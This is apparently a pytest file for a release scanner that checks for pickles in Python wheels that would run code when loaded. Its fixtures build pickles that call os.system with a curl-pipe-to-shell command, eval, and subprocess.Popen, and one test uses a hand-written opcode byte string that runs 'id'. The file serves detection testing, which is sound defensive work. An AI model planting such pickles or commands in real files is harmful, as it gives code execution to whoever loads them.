"""Pickles a release ships, read from their opcodes (`interlock.analysis.extract.pickles`): a pickle that
names os.system or eval runs it for whoever loads the file.

The pickles are made here with `pickle.dumps` of objects whose `__reduce__` names the callable:
dumping only records the name, and nothing here ever loads them.
"""

from __future__ import annotations

import collections
import os
import pickle
import subprocess

import pytest

from interlock.analysis.extract.pickles import dangerous_calls, looks_like_pickle
from interlock.model.findings import Severity
from interlock.model.verdict import Verdict
from tests.builders import findings_of, scan_wheel


class _Reduces:
    """Pickles as a call of `callable(*arguments)`."""

    def __init__(self, callable_: object, *arguments: object) -> None:
        self.callable = callable_
        self.arguments = arguments

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.callable, self.arguments


SYSTEM = _Reduces(os.system, "curl -s https://cdn.example.com/x.sh | sh")


@pytest.mark.parametrize("protocol", [0, 2, 4, 5])
def test_a_pickle_naming_os_system_is_found_at_every_protocol(protocol: int) -> None:
    data = pickle.dumps({"weights": [0.1, 0.2], "hook": SYSTEM}, protocol=protocol)
    assert looks_like_pickle("model.pkl", data[:512])
    assert [call.split(".")[-1] for call in dangerous_calls(data)] == ["system"]


def test_a_hand_written_protocol_4_pickle_with_text_strings_is_found() -> None:
    # STACK_GLOBAL fed by UNICODE ('V') strings, as no pickler writes but any unpickler reads.
    data = b"\x80\x04Vos\nVsystem\n\x93Vid\n\x85R."
    assert dangerous_calls(data) == ["os.system"]


def test_builtins_eval_and_subprocess_are_found_and_plain_data_is_not() -> None:
    assert dangerous_calls(pickle.dumps([_Reduces(eval, "1+1"), _Reduces(subprocess.Popen, ["id"])], protocol=4)) == [
        "builtins.eval",
        "subprocess.Popen",
    ]
    plain = pickle.dumps({"vocab": collections.OrderedDict(a=1), "shape": (3, 4), "names": {"x", "y"}}, protocol=4)
    assert dangerous_calls(plain) == []


def test_a_damaged_pickle_is_read_as_far_as_it_goes() -> None:
    data = pickle.dumps(SYSTEM, protocol=2)
    cut = data.index(b"system\n") + len(b"system\n")  # the GLOBAL opcode, then the file ends
    assert [call.split(".")[-1] for call in dangerous_calls(data[:cut])] == ["system"]
    assert dangerous_calls(b"\x80\x04\xff\xff garbage") == []
    assert dangerous_calls(b"") == []


def test_shipped_pickle_that_runs_a_command_makes_the_release_malicious() -> None:
    result = scan_wheel({"pkg/__init__.py": "", "pkg/model.pkl": pickle.dumps({"clf": SYSTEM}, protocol=4)})
    found = findings_of(result, "pickle-code")
    assert [(f.path, f.severity) for f in found] == [("pkg/model.pkl", Severity.CRITICAL)]
    assert result.verdict is Verdict.MALICIOUS


def test_pickle_scanners_test_data_is_low() -> None:
    result = scan_wheel({"pkg/__init__.py": "", "tests/data/malicious.pkl": pickle.dumps(SYSTEM, protocol=2)})
    assert [(f.path, f.severity) for f in findings_of(result, "pickle-code")] == [
        ("tests/data/malicious.pkl", Severity.LOW)
    ]
    assert result.verdict is Verdict.CLEAN


def test_a_model_of_plain_data_is_clean() -> None:
    model = pickle.dumps(
        {"coef": [[0.5] * 64] * 8, "classes": ["a", "b"], "meta": collections.OrderedDict(v=1)}, protocol=4
    )
    result = scan_wheel({"pkg/__init__.py": "", "pkg/model.pkl": model})
    assert not findings_of(result, "pickle-code") and result.verdict is Verdict.CLEAN
